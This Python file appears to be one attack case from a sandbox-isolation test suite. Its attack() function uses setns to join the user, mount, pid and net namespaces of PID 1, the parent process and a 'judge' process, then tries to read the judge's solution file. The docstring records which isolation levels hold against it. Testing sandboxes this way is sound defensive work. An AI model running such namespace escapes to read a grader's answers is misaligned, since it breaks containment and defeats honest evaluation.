"""Joins the namespaces of process 1 and of the judge, and looks for the solution from there.

kind: read
says: no other namespace
strong: holds
partial: holds
none: falls: it is in the machine's own namespaces already
"""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (1, os.getppid(), aim.judge):
        for name in ("user", "mnt", "pid", "net"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError:
                continue
            libc.setns(fd, 0)
            os.close(fd)
    if os.path.exists(aim.solution):
        print(open(aim.solution).read())
    raise PermissionError("no other namespace can be joined")
